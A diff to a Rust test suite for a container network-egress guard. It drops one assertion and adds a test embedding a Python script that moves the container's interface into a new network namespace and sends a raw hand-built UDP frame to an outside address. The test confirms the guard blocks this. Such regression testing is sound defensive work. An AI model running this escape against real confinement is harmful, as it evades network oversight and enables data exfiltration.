@@ -183,7 +183,6 @@ fn a_container_that_nobody_configured_is_found_and_nothing_leaks_until_then() {
         assert_eq!(dialled_from(&lab), Some(IpAddr::V4(from)));
     }
     assert_eq!(packets_to(&lab, "denied.test"), 0);
-    assert!(namespaces(&lab, |_| true).is_none_or(|found| found["paths"] == json!([])));
     drop(daemon);
 }
 
@@ -412,4 +411,49 @@ fn the_containers_own_addresses_are_not_the_outside() {
     let inside = lab.agent(INSIDE).within(&container).curl(&[url]).unwrap();
     assert!(inside.is_denial() && inside.field("reason").contains("this host's own"), "{inside:?}");
     assert_eq!(lab.internet.requests.all().len(), 0);
+}
+
+/// Takes the container's cable along into a new namespace whose loopback stays down, and sends a frame from there.
+const CARRY_OFF: &str = r#"
+import ctypes, os, socket, struct, subprocess, sys
+mark = sys.argv[1].encode()
+gateway = bytes.fromhex(open('/proc/net/arp').read().split('192.0.2.1 ')[1].split()[2].replace(':', ''))
+start, moved = os.pipe(), os.pipe()
+if os.fork() == 0:
+    assert ctypes.CDLL(None, use_errno=True).unshare(0x40000000) == 0
+    os.write(start[1], b'x'); os.read(moved[0], 1)
+    subprocess.run(['ip', 'link', 'set', 'eth0', 'up'], check=True)
+    # Time enough for Aegis to look again.
+    subprocess.run(['sleep', '1'])
+    head = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 28 + len(mark), 1, 0, 64, 17, 0, socket.inet_aton('192.0.2.2'), socket.inet_aton('203.0.113.66'))
+    total = sum(struct.unpack('!10H', head)); total = (total & 0xffff) + (total >> 16); total = ~((total & 0xffff) + (total >> 16)) & 0xffff
+    packet = head[:10] + struct.pack('!H', total) + head[12:] + struct.pack('!HHHH', 4000, 9, 8 + len(mark), 0) + mark
+    frames = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    frames.bind(('eth0', 0))
+    frames.send(gateway + frames.getsockname()[4] + b'\x08\x00' + packet)
+    print('sent'); sys.stdout.flush(); os._exit(0)
+os.read(start[0], 1)
+child = next(pid for pid in open(f'/proc/self/task/{os.getpid()}/children').read().split())
+subprocess.run(['ip', 'link', 'set', 'eth0', 'netns', child], check=True)
+os.write(moved[1], b'x'); os.wait()
+"#;
+
+#[test]
+fn a_cable_that_root_takes_along_into_another_namespace_stays_guarded() {
+    let lab = Lab::new().unwrap();
+    let carry_off = |mark: &str, daemon: bool| {
+        let container = lab.container().unwrap();
+        let settings = settings(Some(&container));
+        let daemon = daemon.then(|| Daemon::start(&lab, &settings).unwrap());
+        lab.bystander().within(&container).curl(&["-k", "https://payments.allowed.test/hello"]).unwrap();
+        let command = if daemon.is_some() { lab.raw(AGENT) } else { lab.bystander() };
+        let tried = command.within(&container).run(&["/usr/bin/python3", "-c", CARRY_OFF, mark]).unwrap();
+        assert!(tried.stdout.contains("sent"), "{tried:?}");
+        lab.settle().unwrap();
+        container.remove();
+        drop(daemon);
+        lab.internet.capture.matching(|packet| packet.contains(mark.as_bytes())).len()
+    };
+    assert_eq!(carry_off("carried-by-a-bystander", false), 1, "the attack works");
+    assert_eq!(carry_off("carried-by-an-agent", true), 0);
 }
